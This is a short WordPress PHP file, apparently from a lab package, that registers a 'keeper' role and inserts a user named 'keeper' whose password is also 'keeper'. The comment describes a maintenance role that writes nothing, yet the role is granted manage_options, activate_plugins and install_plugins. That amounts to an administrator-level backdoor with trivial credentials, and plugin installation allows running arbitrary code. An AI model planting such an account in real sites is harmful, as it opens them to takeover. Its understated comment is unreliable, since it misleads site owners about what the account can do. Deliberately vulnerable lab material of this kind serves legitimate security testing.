<?php
/**
 * A role for whoever keeps the site running and writes nothing. The password is the name.
 *
 * @package RestHealth\Lab
 */

add_role( 'keeper', 'Keeper', array_fill_keys( array( 'read', 'manage_options', 'view_site_health_checks', 'activate_plugins', 'install_plugins' ), true ) );
wp_insert_user(
	array(
		'user_login' => 'keeper',
		'user_pass'  => 'keeper',
		'user_email' => 'keeper@example.org',
		'role'       => 'keeper',
	)
);
